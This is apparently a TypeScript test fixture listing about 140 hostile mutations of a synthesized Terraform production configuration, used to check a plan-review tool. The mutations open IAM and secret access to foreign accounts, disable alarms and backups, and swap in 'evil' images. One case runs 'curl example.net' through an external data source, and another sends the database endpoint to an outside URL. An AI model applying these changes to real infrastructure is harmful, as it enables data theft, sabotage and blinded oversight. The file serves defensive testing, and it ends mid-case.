/** The third set: written from the synthesized prod alone, without a look at the others. What it finds names by a part, so it survives a renaming. */
import type { Code } from '../../../commands/plan/review/plan-of-code';

type Block = Record<string, unknown>;
type Blocks = Record<string, Record<string, Block>>;

export interface Whole {
  readonly resource: Blocks;
  readonly data: Blocks;
  readonly [part: string]: unknown;
}

export interface Case {
  /** `exposure|outage`: one of these is said; `synth` where a policy stops it before any plan. */
  readonly themes: string;
  readonly name: string;
  readonly apply: (code: Whole) => void;
}

export const record = (value: unknown): Block => value as Block;
export const list = (value: unknown): Block[] => (Array.isArray(value) ? value : [value]) as Block[];

/** The one resource of a type whose name has this part. */
export function at(code: Whole, type: string, part = ''): Block {
  const blocks = type.startsWith('data.') ? code.data[type.slice(5)] : code.resource[type];
  const found = Object.entries(blocks ?? {}).find(([name]) => name.includes(part));
  if (found === undefined) throw new Error(`no ${type} with ${part}`);
  return found[1];
}
function nameOf(code: Whole, type: string, part = ''): string {
  const found = Object.keys(code.resource[type] ?? {}).find((name) => name.includes(part));
  if (found === undefined) throw new Error(`no ${type} with ${part}`);
  return found;
}
export const referTo = (code: Whole, type: string, part: string, attribute: string): string =>
  `\${${type}.${nameOf(code, type, part)}.${attribute}}`;

/** One attribute, by its path; `undefined` takes it away. */
export const set =
  (type: string, part: string, path: string, value: unknown) =>
  (code: Whole): void => {
    const steps = path.split('.');
    const last = steps.pop() ?? '';
    let target = at(code, type, part);
    for (const step of steps) target = record(Array.isArray(target) ? target[Number(step)] : target[step]);
    if (Array.isArray(target)) target[Number(last)] = value;
    else if (value === undefined) delete target[last];
    else target[last] = value;
  };
const drop =
  (type: string, part: string) =>
  (code: Whole): void => {
    delete code.resource[type]?.[nameOf(code, type, part)];
  };
const add =
  (type: string, block: (code: Whole) => Block) =>
  (code: Whole): void => {
    const made = block(code);
    code.resource[type] = { ...code.resource[type], new_one: made };
  };
/** A text of an attribute, changed. */
export const text =
  (type: string, part: string, path: string, change: (text: string) => string) =>
  (code: Whole): void => {
    let value: unknown = at(code, type, part);
    for (const step of path.split('.')) value = record(value)[step];
    const changed = change(String(value));
    if (changed === value) throw new Error(`${type} ${part} ${path} stays`);
    set(type, part, path, changed)(code);
  };
export const container =
  (task: string, name: string, change: (container: Block, task: Block[]) => void) =>
  (code: Whole): void => {
    const definition = at(code, 'aws_ecs_task_definition', task);
    const all = JSON.parse(String(definition['container_definitions'])) as Block[];
    const one = all.find((container) => container['name'] === name);
    if (one === undefined) throw new Error(`no ${name} in ${task}`);
    change(one, all);
    definition['container_definitions'] = JSON.stringify(all);
  };
export const variable = (task: string, name: string, variableName: string, value: string | undefined) =>
  container(task, name, (one) => {
    const others = list(one['environment']).filter((entry) => entry['name'] !== variableName);
    one['environment'] = value === undefined ? others : [...others, { name: variableName, value }];
  });
export const statements =
  (document: string, change: (statements: Block[], code: Whole) => void) =>
  (code: Whole): void =>
    change(at(code, 'data.aws_iam_policy_document', document)['statement'] as Block[], code);
const machine =
  (part: string, change: (states: Record<string, Block>, definition: Block) => void) =>
  (code: Whole): void => {
    const block = at(code, 'aws_sfn_state_machine', part);
    const definition = JSON.parse(String(block['definition'])) as Block;
    change(definition['States'] as Record<string, Block>, definition);
    block['definition'] = JSON.stringify(definition);
  };
export const waf =
  (change: (rules: Block[], acl: Block) => void) =>
  (code: Whole): void => {
    const acl = at(code, 'aws_wafv2_web_acl');
    change(acl['rule'] as Block[], acl);
  };
export const top =
  (change: (code: Block) => void) =>
  (code: Whole): void =>
    change(code);

export const row = (themes: string, name: string, apply: Case['apply']): Case => ({ themes, name, apply });

export const HOSTILE_WHOLE: readonly Case[] = [
  // Paths that are cut.
  row('outage', 'a private subnet is associated with the table of the database', (code) => {
    at(code, 'aws_route_table_association', 'private_association-a')['route_table_id'] = referTo(
      code,
      'aws_route_table',
      'network_database_routes-a',
      'id',
    );
  }),
  row('outage|exposure', 'the database subnet gets the table of the public ones', (code) => {
    at(code, 'aws_route_table_association', 'database_association-a')['route_table_id'] = referTo(
      code,
      'aws_route_table',
      'network_public_routes-a',
      'id',
    );
  }),
  row('outage', 'the default route of zone b goes', drop('aws_route', 'private-1')),
  row(
    'exposure',
    'a more specific route leads nowhere',
    add('aws_route', (code) => ({
      route_table_id: referTo(code, 'aws_route_table', 'private_routes-a', 'id'),
      destination_cidr_block: '10.64.8.0/24',
      nat_gateway_id: referTo(code, 'aws_nat_gateway', 'nat-0', 'id'),
    })),
  ),
  row(
    'outage',
    'the first name of the database leads to another host',
    set('aws_route53_record', 'names_first', 'records', ['other.example.com']),
  ),
  row(
    'outage',
    'the tasks of public leave on 3307',
    set('aws_vpc_security_group_egress_rule', 'services_public_network_to-database', 'to_port', 3305),
  ),
  row('outage', 'DNS support of the VPC ends', set('aws_vpc', '', 'enable_dns_support', false)),
  row(
    'outage',
    'the secrets endpoint has no private name',
    set('aws_vpc_endpoint', 'secretsmanager', 'private_dns_enabled', false),
  ),
  row(
    'outage',
    'the endpoint of secrets only lets reads of one name',
    statements('secretsmanager-policy', ([one]) => {
      record(one)['actions'] = ['secretsmanager:DescribeSecret'];
    }),
  ),
  row(
    'outage',
    'a network ACL shuts the database subnets',
    add('aws_network_acl', (code) => ({
      vpc_id: referTo(code, 'aws_vpc', '', 'id'),
      subnet_ids: [referTo(code, 'aws_subnet', 'database_subnet-a', 'id')],
    })),
  ),
  row(
    'outage',
    'the registry of admin answers slowly or never',
    set('aws_service_discovery_service', '', 'dns_config.dns_records.0.type', 'SRV'),
  ),
  row(
    'outage',
    'the health check asks for another status',
    set('aws_lb_target_group', 'aus5', 'health_check.matcher', '204'),
  ),
  row(
    'outage',
    'aus4 answers every request with a fixed page',
    set('aws_lb_listener', 'aus4', 'default_action', [
      { type: 'fixed-response', fixed_response: [{ content_type: 'text/plain', status_code: '200' }] },
    ]),
  ),
  row('outage', 'UI is switched off', set('aws_cloudfront_distribution', '', 'enabled', false)),
  row(
    'exposure',
    'the UI asks the bucket without a signature',
    set('aws_cloudfront_origin_access_control', '', 'signing_behavior', 'never'),
  ),
  row(
    'exposure',
    'the page routes function rewrites all',
    text('aws_cloudfront_function', '', 'code', (code) => code.replace('routes.includes(', 'true || routes.includes(')),
  ),
  // New things that attach to old ones.
  row(
    'exposure|outage',
    'a listener rule sends a path of aus5 to another group',
    add('aws_lb_listener_rule', (code) => ({
      listener_arn: referTo(code, 'aws_lb_listener', 'aus5_listeners_https', 'arn'),
      priority: 1,
      action: [{ type: 'forward', target_group_arn: referTo(code, 'aws_lb_target_group', 'admin', 'arn') }],
      condition: [{ path_pattern: [{ values: ['/api/*'] }] }],
    })),
  ),
  row(
    'exposure',
    'a listener on 8080 of the admin load balancer',
    add('aws_lb_listener', (code) => ({
      load_balancer_arn: referTo(code, 'aws_lb', 'admin', 'arn'),
      port: 8080,
      protocol: 'HTTP',
      default_action: [{ type: 'forward', target_group_arn: referTo(code, 'aws_lb_target_group', 'admin', 'arn') }],
    })),
  ),
  row(
    'exposure',
    'a subscription of somebody else to the chat topic',
    add('aws_sns_topic_subscription', (code) => ({
      topic_arn: referTo(code, 'aws_sns_topic', 'chat', 'arn'),
      protocol: 'https',
      endpoint: 'https://listen.example.net/hook',
    })),
  ),
  row(
    'exposure',
    'a log subscription filter ships the log of admin',
    add('aws_cloudwatch_log_subscription_filter', () => ({
      name: 'ship',
      log_group_name: '/ecs/balrog-prod/admin',
      filter_pattern: '',
      destination_arn: 'arn:aws:logs:us-west-2:999988887777:destination:theirs',
    })),
  ),
  row(
    'exposure',
    'a policy attached to the role of admin',
    add('aws_iam_role_policy_attachment', (code) => ({
      role: referTo(code, 'aws_iam_role', 'services_admin_task_role', 'name'),
      policy_arn: 'arn:aws:iam::aws:policy/ReadOnlyAccess',
    })),
  ),
  row(
    'exposure',
    'an inline policy for the role of public',
    add('aws_iam_role_policy', (code) => ({
      name: 'more',
      role: referTo(code, 'aws_iam_role', 'services_public_task_role', 'name'),
      policy: JSON.stringify({
        Version: '2012-10-17',
        Statement: [{ Effect: 'Allow', Action: 'secretsmanager:GetSecretValue', Resource: '*' }],
      }),
    })),
  ),
  row(
    'exposure',
    'a read replica of the database',
    add('aws_db_instance', (code) => ({
      identifier: 'copy',
      replicate_source_db: referTo(code, 'aws_db_instance', 'database', 'identifier'),
      instance_class: 'db.t3.small',
      publicly_accessible: true,
      skip_final_snapshot: true,
    })),
  ),
  row(
    'exposure',
    'a grant of the key of the database',
    add('aws_kms_grant', (code) => ({
      key_id: referTo(code, 'aws_kms_key', 'database_key', 'key_id'),
      grantee_principal: 'arn:aws:iam::999988887777:root',
      operations: ['Decrypt'],
    })),
  ),
  row(
    'exposure',
    'a peering of the VPC',
    add('aws_vpc_peering_connection', (code) => ({
      vpc_id: referTo(code, 'aws_vpc', '', 'id'),
      peer_vpc_id: 'vpc-0123456789abcdef0',
      peer_owner_id: '999988887777',
      auto_accept: false,
    })),
  ),
  row(
    'exposure',
    'a snapshot is shared',
    add('aws_db_snapshot', () => ({
      db_instance_identifier: 'balrog-prod',
      db_snapshot_identifier: 'shared',
      shared_accounts: ['all'],
    })),
  ),
  row(
    'exposure',
    'a bucket notification to somebody',
    add('aws_s3_bucket_notification', (code) => ({
      bucket: referTo(code, 'aws_s3_bucket', 'admin_ui', 'id'),
      lambda_function: [
        {
          lambda_function_arn: 'arn:aws:lambda:us-west-2:999988887777:function:theirs',
          events: ['s3:ObjectCreated:*'],
        },
      ],
    })),
  ),
  row(
    'exposure',
    'a replication of the applications logs',
    add('aws_s3_bucket_replication_configuration', (code) => ({
      bucket: referTo(code, 'aws_s3_bucket', 'logs_applications', 'id'),
      role: 'arn:aws:iam::111122223333:role/x',
      rule: [{ status: 'Enabled', destination: [{ bucket: 'arn:aws:s3:::theirs' }] }],
    })),
  ),
  row(
    'exposure',
    'a lambda permission for everybody',
    add('aws_lambda_permission', (code) => ({
      action: 'lambda:InvokeFunction',
      function_name: referTo(code, 'aws_lambda_function', 'schema-gate', 'function_name'),
      principal: '*',
    })),
  ),
  row(
    'exposure',
    'a function URL for the gate',
    add('aws_lambda_function_url', (code) => ({
      function_name: referTo(code, 'aws_lambda_function', 'schema-gate', 'function_name'),
      authorization_type: 'NONE',
    })),
  ),
  row(
    'exposure|outage',
    'a rotation of the DBURI of admin by a foreign function',
    add('aws_secretsmanager_secret_rotation', (code) => ({
      secret_id: referTo(code, 'aws_secretsmanager_secret', 'dburi_admin', 'id'),
      rotation_lambda_arn: 'arn:aws:lambda:us-west-2:999988887777:function:r',
      rotation_rules: [{ automatically_after_days: 1 }],
    })),
  ),
  row(
    'exposure',
    'a policy of the secret of the agent',
    add('aws_secretsmanager_secret_policy', (code) => ({
      secret_arn: referTo(code, 'aws_secretsmanager_secret', 'auth0_m2m', 'arn'),
      policy: JSON.stringify({
        Version: '2012-10-17',
        Statement: [
          {
            Effect: 'Allow',
            Principal: { AWS: 'arn:aws:iam::999988887777:root' },
            Action: 'secretsmanager:GetSecretValue',
            Resource: '*',
          },
        ],
      }),
    })),
  ),
  row(
    'exposure|outage',
    'a schedule that runs the migration each hour',
    add('aws_scheduler_schedule', (code) => ({
      name: 'again',
      schedule_expression: 'rate(1 hour)',
      flexible_time_window: [{ mode: 'OFF' }],
      target: [
        {
          arn: referTo(code, 'aws_lambda_function', 'schema-gate', 'arn'),
          role_arn: referTo(code, 'aws_iam_role', 'jobs_cleanup-schedule_role', 'arn'),
        },
      ],
    })),
  ),
  row(
    'capacity|outage',
    'a scheduled action takes public to one task at night',
    add('aws_appautoscaling_scheduled_action', (code) => ({
      name: 'night',
      service_namespace: 'ecs',
      scalable_dimension: 'ecs:service:DesiredCount',
      resource_id: referTo(code, 'aws_appautoscaling_target', '', 'resource_id'),
      schedule: 'cron(0 0 * * ? *)',
      scalable_target_action: [{ min_capacity: 1, max_capacity: 1 }],
    })),
  ),
  row(
    'exposure',
    'a GCS grant to all who signed in',
    add('google_storage_bucket_iam_member', (code) => ({
      bucket: referTo(code, 'google_storage_bucket', 'releases', 'name'),
      role: 'roles/storage.objectAdmin',
      member: 'allAuthenticatedUsers',
    })),
  ),
  row(
    'exposure',
    'a key of the service account of admin',
    add('google_service_account_key', (code) => ({
      service_account_id: referTo(code, 'google_service_account', 'history_admin', 'name'),
    })),
  ),
  row(
    'exposure',
    'a GCP project grant to a foreign account',
    add('google_project_iam_member', () => ({
      project: 'balrog-prod-example',
      role: 'roles/storage.admin',
      member: 'serviceAccount:x@theirs.iam.gserviceaccount.com',
    })),
  ),
  row(
    'blindness',
    'an alarm suppressor: a rule that mutes by an always firing alarm',
    set('aws_cloudwatch_composite_alarm', 'aus5-burning', 'actions_suppressor', {
      alarm: 'balrog-prod-always',
      extension_period: 3600,
      wait_period: 60,
    }),
  ),
  // Permissions widened.
  row(
    'exposure',
    'public may write all secrets',
    statements('services_public_task_role_document', (all) => {
      all.push({ actions: ['secretsmanager:PutSecretValue'], resources: ['*'] });
    }),
  ),
  row(
    'exposure',
    'admin may assume any role',
    statements('services_admin_task_role_document', (all) => {
      all.push({ actions: ['sts:AssumeRole'], resources: ['*'] });
    }),
  ),
  row(
    'exposure',
    'the condition of the trust of a schedule goes',
    statements('database_backup-watch_scheduler-role_trust', ([one]) => {
      delete record(one)['condition'];
    }),
  ),
  row(
    'exposure',
    'the external id of Redash may be any',
    statements('log-queries_redash_trust', ([one]) => {
      record(list(record(one)['condition'])[0])['test'] = 'StringLike';
      record(list(record(one)['condition'])[0])['values'] = ['*'];
    }),
  ),
  row(
    'exposure',
    'IfExists is added to the condition of Redash',
    statements('log-queries_redash_trust', ([one]) => {
      record(list(record(one)['condition'])[0])['test'] = 'StringEqualsIfExists';
    }),
  ),
  row(
    'exposure',
    'a NotAction where actions stood',
    statements('services_agent_task_role_document', ([one]) => {
      record(one)['not_actions'] = record(one)['actions'];
      delete record(one)['actions'];
    }),
  ),
  row(
    'exposure',
    'plain HTTP to the answers bucket',
    statements('log-queries_workgroup_results_policy-document', ([one]) => {
      record(one)['effect'] = 'Allow';
    }),
  ),
  row(
    'exposure',
    'plain HTTP is denied to GET alone',
    statements('logs_requests_storage_policy-document', ([one]) => {
      record(one)['actions'] = ['s3:GetObject'];
    }),
  ),
  row(
    'exposure',
    'a trust of another service',
    statements('jobs_schema-gate_role_trust', ([one]) => {
      record(list(record(one)['principals'])[0])['identifiers'] = ['lambda.amazonaws.com', 'ec2.amazonaws.com'];
    }),
  ),
  row(
    'exposure',
    'the boundary of a role goes',
    set('aws_iam_role', 'services_admin_task_role', 'permissions_boundary', undefined),
  ),
  row(
    'exposure',
    'the guardrail of the channel lets restart',
    statements('chat_guardrail-document', ([one]) => {
      (record(one)['actions'] as string[]).push('rds:StopDBInstance');
    }),
  ),
  row(
    'exposure',
    'the history role may delete buckets',
    set('google_project_iam_custom_role', 'history_dump', 'permissions', [
      'storage.buckets.get',
      'storage.buckets.delete',
      'storage.objects.create',
      'storage.objects.delete',
      'storage.objects.get',
      'storage.objects.list',
    ]),
  ),
  row(
    'exposure',
    'the S3 endpoint lets all accounts',
    statements('network_endpoints_s3-policy', ([one]) => {
      delete record(one)['condition'];
    }),
  ),
  row(
    'exposure',
    'admin from a whole class A',
    set('aws_vpc_security_group_ingress_rule', 'edge_admin_admission_https', 'cidr_ipv4', '203.0.0.0/8'),
  ),
  row('exposure', 'the database is opened for the VPC', (code) => {
    const rule = at(code, 'aws_vpc_security_group_ingress_rule', 'services_public_network_into-database');
    delete rule['referenced_security_group_id'];
    rule['cidr_ipv4'] = '10.64.0.0/16';
  }),
  row('exposure', 'the database gets the group of the load balancer, too', (code) => {
    (at(code, 'aws_db_instance', 'database')['vpc_security_group_ids'] as string[]).push(
      referTo(code, 'aws_security_group', 'edge_aus5', 'id'),
    );
  }),
  // TLS both ways.
  row('exposure', 'TLS 1.0 at admin', set('aws_lb_listener', 'admin', 'ssl_policy', 'ELBSecurityPolicy-2016-08')),
  row(
    'outage',
    'TLS 1.3 alone at aus3',
    set('aws_lb_listener', 'aus3', 'ssl_policy', 'ELBSecurityPolicy-TLS13-1-3-2021-06'),
  ),
  row(
    'outage',
    'another certificate at aus5',
    set(
      'aws_lb_listener',
      'aus5',
      'certificate_arn',
      'arn:aws:acm:us-west-2:111122223333:certificate/11111111-0000-0000-0000-000000000000',
    ),
  ),
  row(
    'exposure',
    'TLSv1 at the UI',
    set('aws_cloudfront_distribution', '', 'viewer_certificate.minimum_protocol_version', 'TLSv1_2016'),
  ),
  row(
    'exposure',
    'the UI is served by plain HTTP, too',
    set('aws_cloudfront_distribution', '', 'default_cache_behavior.viewer_protocol_policy', 'allow-all'),
  ),
  row('exposure', 'HSTS for one day', (code) => {
    record(
      record(at(code, 'aws_cloudfront_response_headers_policy')['security_headers_config'])[
        'strict_transport_security'
      ],
    )['access_control_max_age_sec'] = 86_400;
  }),
  row('exposure|outage', 'the database demands TLS', (code) => {
    const parameter = list(at(code, 'aws_db_parameter_group')['parameter']).find(
      ({ name }) => name === 'require_secure_transport',
    );
    record(parameter)['value'] = '1';
  }),
  // Alarms blinded.
  row(
    'blindness',
    'an alarm counts the average of a sum',
    set('aws_cloudwatch_metric_alarm', 'admin-balancer-errors', 'statistic', 'Minimum'),
  ),
  row('blindness', 'an alarm of another load balancer', (code) => {
    at(code, 'aws_cloudwatch_metric_alarm', 'aus5-no-healthy-target')['dimensions'] = structuredClone(
      at(code, 'aws_cloudwatch_metric_alarm', 'aus3-no-healthy-target')['dimensions'],
    );
  }),
  row('blindness', 'an alarm needs 30 periods', (code) => {
    const alarm = at(code, 'aws_cloudwatch_metric_alarm', 'aus5-balancer-errors');
    alarm['evaluation_periods'] = 30;
    alarm['datapoints_to_alarm'] = 30;
  }),
  row(
    'blindness',
    'the actions of an alarm are switched off',
    set('aws_cloudwatch_metric_alarm', 'aus4-slow', 'actions_enabled', false),
  ),
  row(
    'blindness',
    'the composite is an AND of one that never fires',
    text('aws_cloudwatch_composite_alarm', 'aus5-burning', 'alarm_rule', (rule) => `(${rule}) AND FALSE`),
  ),
  row(
    'blindness',
    'the metric filter counts nothing',
    set('aws_cloudwatch_log_metric_filter', 'cleanup-db-failures', 'pattern', '"a line that nobody writes"'),
  ),
  row(
    'blindness',
    'the metric filter counts zero',
    set('aws_cloudwatch_log_metric_filter', 'cleanup-db-failures', 'metric_transformation.value', '0'),
  ),
  row(
    'blindness',
    'the event rule is disabled',
    set('aws_cloudwatch_event_rule', 'cleanup-schedule_failed', 'state', 'DISABLED'),
  ),
  row(
    'blindness',
    'the event rule listens to another cluster',
    text('aws_cloudwatch_event_rule', 'deployment-failed', 'event_pattern', (pattern) =>
      pattern.replace('aws.ecs', 'aws.ec2'),
    ),
  ),
  row(
    'blindness',
    'events of the database: no failure',
    set('aws_db_event_subscription', '', 'event_categories', ['availability', 'deletion', 'maintenance', 'recovery']),
  ),
  row('blindness', 'events of another database', set('aws_db_event_subscription', '', 'source_ids', ['balrog-other'])),
  row(
    'blindness',
    'the subscription of CloudOps filters',
    set('aws_sns_topic_subscription', 'cloudops', 'filter_policy', '{"AlarmName":["none"]}'),
  ),
  row(
    'outage',
    'CloudWatch may not use the key of the pages',
    statements('responders_key_policy', (all) => void all.pop()),
  ),
  row(
    'outage',
    'another publisher alone',
    statements('responders_cloudops_policy-document', ([one]) => {
      record(list(record(one)['principals'])[0])['identifiers'] = ['events.rds.amazonaws.com'];
    }),
  ),
  row('blindness', 'the topics of the channel are fewer', (code) => {
    (at(code, 'aws_chatbot_slack_channel_configuration')['sns_topic_arns'] as string[]).pop();
  }),
  row(
    'capacity',
    'the deployment alarm of admin does not roll back',
    set('aws_ecs_service', 'admin', 'alarms.rollback', false),
  ),
  row('blindness', 'Container Insights ends', set('aws_ecs_cluster', '', 'setting.0.value', 'disabled')),
  row('blindness', 'Sentry keeps a tenth', set('sentry_key', 'admin', 'rate_limit_count', 3)),
  row('blindness', 'Sentry drops by another filter', (code) => {
    const filters = code.resource['sentry_project_inbound_data_filter'] as Record<string, Block>;
    filters['new_one'] = { ...structuredClone(record(Object.values(filters)[0])), filter_id: 'error_messages' };
  }),
  row(
    'blindness',
    'the spike compares with a thousand',
    set('sentry_metric_monitor', 'admin', 'condition_group.conditions.0.comparison', 1000),
  ),
  row('blindness', 'pages are quiet all week', (code) => {
    at(code, 'grafana_mute_timing')['intervals'] = [{ location: 'UTC', weekdays: ['monday:sunday'] }];
  }),
  row('blindness', 'the policy of pages does not go on', (code) => {
    record(list(at(code, 'grafana_notification_policy')['policy'])[0])['continue'] = false;
  }),
  row('blindness', 'pages of CloudOps are for another severity', (code) => {
    const matcher = list(record(list(at(code, 'grafana_notification_policy')['policy'])[1])['matcher']);
    record(matcher[0])['value'] = 'disaster';
  }),
  row('blindness', 'a rule of Grafana is paused', (code) => {
    record(list(at(code, 'grafana_rule_group')['rule'])[3])['is_paused'] = true;
  }),
  row('blindness', 'a rule of Grafana says OK without data', (code) => {
    record(list(at(code, 'grafana_rule_group')['rule'])[0])['no_data_state'] = 'OK';
  }),
  row(
    'blindness',
    'Grafana asks another region',
    text('grafana_data_source', 'cloudwatch', 'json_data_encoded', (json) => json.replace('us-west-2', 'eu-west-1')),
  ),
  row(
    'blindness',
    'the uptime check asks one region',
    set('google_monitoring_uptime_check_config', 'monitoring_history', 'selected_regions', ['USA']),
  ),
  row(
    'blindness',
    'the uptime check asks another path',
    set('google_monitoring_uptime_check_config', 'monitoring_history', 'http_check.path', '/robots.txt'),
  ),
  // The backup watch.
  row(
    'blindness',
    'the watch publishes a constant',
    machine('backup-watch', (states) => {
      const publishing = Object.values(states).find((state) => JSON.stringify(state).includes('putMetricData'));
      const asked = record(record(publishing)['Arguments']);
      asked['MetricData'] = String(asked['MetricData']).replace('($millis() - Time) / 1000', '1');
    }),
  ),
  row(
    'blindness',
    'the watch asks another database',
    machine('backup-watch', (states) => {
      record(record(states['DescribeDatabase'])['Arguments'])['DbInstanceIdentifier'] = 'balrog-stage';
    }),
  ),
  row(
    'blindness',
    'the watch ends after its first state',
    machine('backup-watch', (states) => {
      const first = record(states['DescribeDatabase']);
      delete first['Next'];
      first['End'] = true;
    }),
  ),
  row(
    'blindness',
    'the watch runs each day',
    set('aws_scheduler_schedule', 'backup-watch', 'schedule_expression', 'rate(1 day)'),
  ),
  row(
    'outage',
    'the watch has an end',
    set('aws_scheduler_schedule', 'backup-watch', 'end_date', '2027-01-01T00:00:00Z'),
  ),
  row(
    'outage',
    'the watch may not ask the vault',
    statements('backup-watch_role_document', (all) => void all.splice(1, 1)),
  ),
  row(
    'blindness',
    'the drill forgives its failure',
    machine('restore-drill', (states) => {
      const failing = Object.entries(states).find(([, state]) => state['Type'] === 'Fail');
      if (failing === undefined) throw new Error('no failing state');
      states[failing[0]] = { Type: 'Succeed' };
    }),
  ),
  row(
    'blindness|data loss|protection',
    'the drill runs once a year',
    set('aws_scheduler_schedule', 'restore-drill', 'schedule_expression', 'cron(0 9 1 1 ? *)'),
  ),
  row(
    'protection',
    'the vault drill restores one older than a month',
    set('aws_backup_restore_testing_plan', '', 'recovery_point_selection.0.selection_window_days', 60),
  ),
  row(
    'protection',
    'the vault drill tests another',
    set('aws_backup_restore_testing_selection', '', 'protected_resource_arns', [
      'arn:aws:rds:us-west-2:111122223333:db:other',
    ]),
  ),
  // Data.
  row('data loss|protection', 'backups for a week', set('aws_db_instance', 'database', 'backup_retention_period', 7)),
  row(
    'data loss|protection',
    'copies of the second region for a day',
    set('aws_db_instance_automated_backups_replication', '', 'retention_period', 1),
  ),
  row(
    'data loss|protection',
    'nightly copies on Sundays',
    set('aws_backup_plan', '', 'rule.0.schedule', 'cron(0 5 ? * SUN *)'),
  ),
  row(
    'data loss|protection',
    'copies of nobody',
    set('aws_backup_selection', '', 'resources', ['arn:aws:rds:us-west-2:111122223333:db:other']),
  ),
  row('data loss|protection', 'copies of all but the database', (code) => {
    at(code, 'aws_backup_selection')['not_resources'] = ['arn:aws:rds:*:*:db:balrog-prod'];
  }),
  row(
    'data loss|protection',
    'the vault may be unlocked for a year',
    set('aws_backup_vault_lock_configuration', '', 'changeable_for_days', undefined),
  ),
  row(
    'data loss|protection',
    'a maximum of the vault',
    set('aws_backup_vault_lock_configuration', '', 'max_retention_days', 90),
  ),
  row('data loss|protection', 'logs of requests for a month', (code) => {
    const rule = list(at(code, 'aws_s3_bucket_lifecycle_configuration', 'logs_requests')['rule'])[0];
    record(list(record(rule)['expiration'])[0])['days'] = 30;
  }),
  row('outage', 'logs of applications to deep archive', (code) => {
    const rule = list(at(code, 'aws_s3_bucket_lifecycle_configuration', 'logs_applications')['rule'])[0];
    record(rule)['transition'] = [{ days: 1, storage_class: 'DEEP_ARCHIVE' }];
  }),
  row('data loss|protection', 'the release history expires', (code) => {
    at(code, 'google_storage_bucket', 'releases')['lifecycle_rule'] = [
      { action: { type: 'Delete' }, condition: { age: 365 } },
    ];
  }),
  row(
    'data loss|protection',
    'the release history has no versions',
    set('google_storage_bucket', 'releases', 'versioning', { enabled: false }),
  ),
  row('capacity', 'the history moves to Archive', set('google_storage_bucket', 'releases', 'storage_class', 'ARCHIVE')),
  row('data loss|protection|outage', 'the parameter: binlog after a crash', (code) => {
    list(at(code, 'aws_db_parameter_group')['parameter']).push({ name: 'innodb_flush_log_at_trx_commit', value: '0' });
  }),
  row('outage', 'the database is read-only', (code) => {
    list(at(code, 'aws_db_parameter_group')['parameter']).push({ name: 'read_only', value: '1' });
  }),
  row('outage|data loss|protection', 'the collation of the server', (code) => {
    record(list(at(code, 'aws_db_parameter_group')['parameter'])[1])['value'] = 'utf8mb4_general_ci';
  }),
  row('capacity', 'cleanup keeps a day', variable('jobs_cleanup', 'cleanup-db', 'MAX_AGE', '1')),
  row(
    'outage',
    'the dump runs on Sundays',
    set('aws_scheduler_schedule', 'dump', 'schedule_expression', 'cron(0 3 ? * SUN *)'),
  ),
  row('data loss|protection', 'no prevent_destroy of the key of the database', (code) => {
    delete at(code, 'aws_kms_key', 'database_key')['lifecycle'];
  }),
  row(
    'data loss|protection',
    'the bucket of the UI may be destroyed with all in it',
    set('aws_s3_bucket', 'admin_ui', 'force_destroy', true),
  ),
  row(
    'data loss|protection',
    'the database is deleted without a snapshot',
    set('aws_db_instance', 'database', 'skip_final_snapshot', true),
  ),
  row(
    'data loss|protection',
    'a secret is gone at once',
    set('aws_secretsmanager_secret', 'dburi_admin', 'recovery_window_in_days', 0),
  ),
  row(
    'data loss|protection',
    'a secret has no copy',
    set('aws_secretsmanager_secret', 'secret_key', 'replica', undefined),
  ),
  row(
    'blindness',
    'a log group keeps a day',
    set('aws_cloudwatch_log_group', 'services_admin', 'retention_in_days', 1),
  ),
  // Code swapped.
  row(
    'exposure|identity',
    'admin runs another image',
    container('services_admin', 'admin', (one) => {
      one['image'] = 'docker.io/evil/balrog@sha256:2500000000000000000000000000000000000000000000000000000000000001';
    }),
  ),
  row(
    'exposure|identity|outage',
    'public runs another command',
    container('services_public', 'public', (one) => {
      one['command'] = ['admin'];
    }),
  ),
  row(
    'synth',
    'the collector has a tag',
    container('services_public', 'metrics-collector', (one) => {
      one['image'] =
        '111122223333.dkr.ecr.us-west-2.amazonaws.com/ecr-public/aws-observability/aws-otel-collector:latest';
    }),
  ),
  row(
    'exposure|identity',
    'a container more in admin',
    container('services_admin', 'admin', (_, all) => {
      all.push({ name: 'helper', image: '111122223333.dkr.ecr.us-west-2.amazonaws.com/x@sha256:01', essential: false });
    }),
  ),
  row(
    'exposure|identity',
    'a file of configure is another',
    container('services_public', 'configure', (one) => {
      record(list(one['environment']).find(({ name }) => name === 'FILE_SITECUSTOMIZE_PY'))['value'] = 'import os';
    }),
  ),
  row('exposure|identity|outage', 'the gate runs another function', (code) => {
    at(code, 'aws_lambda_function', 'schema-gate')['source_code_hash'] = 'AAAA';
    at(code, 'aws_lambda_function', 'schema-gate')['s3_key'] = 'gate/other.zip';
  }),
  row(
    'exposure|identity',
    'a layer of somebody',
    set('aws_lambda_function', 'schema-gate', 'layers', ['arn:aws:lambda:us-west-2:999988887777:layer:x:1']),
  ),
  row('exposure|identity', 'NODE_OPTIONS of the gate', (code) => {
    const variables = record(record(at(code, 'aws_lambda_function', 'restorability')['environment'])['variables']);
    variables['NODE_OPTIONS'] = '--require /tmp/x.js';
  }),
  row(
    'exposure|identity',
    'another provider source',
    top((code) => {
      record(record(record(code['terraform'])['required_providers'])['aws'])['source'] = 'evil/aws';
    }),
  ),
  row(
    'exposure|identity',
    'a provider of elsewhere',
    top((code) => {
      record(record(code['terraform'])['required_providers'])['external'] = {
        source: 'hashicorp/external',
        version: '2.3.3',
      };
    }),
  ),
  row(
    'exposure|identity',
    'an external data source runs a program',
    top((code) => {
      record(code['data'])['external'] = { run: { program: ['sh', '-c', 'curl example.net'] } };
    }),
  ),
  row(
    'exposure|identity',
    'an HTTP data source sends the endpoint',
    top((code) => {
      record(code['data'])['http'] = { tell: { url: 'https://example.net/?${aws_db_instance.database.endpoint}' } };
    }),
  ),
  row(
    'exposure|identity',
    'a module',
    top((code) => {
      code['module'] = { more: { source: 'git::https://example.net/x.git' } };
    }),
  ),
  row('synth', 'a provisioner of admin', (code) => {
    at(code, 'aws_ecs_task_definition', 'services_admin')['provisioner'] = [{ 'local-exec': { command: 'true' } }];
    at(code, 'aws_ecs_task_definition', 'services_admin')['cpu'] = '4096';
  }),
  row(
    'identity',
    'the state in another bucket',
    top((code) => {
      record(record(record(code['terraform'])['backend'])['s3'])['bucket'] = 'theirs';
    }),
  ),
  row(
    'identity',
    'the provider of AWS talks to another endpoint',
    top((code) => {
      record(list(record(code['provider'])['aws'])[0])['endpoints'] = [{ rds: 'https://example.net' }];
    }),
  ),
  row(
    'identity',
    'allowed accounts go',
    top((code) => {
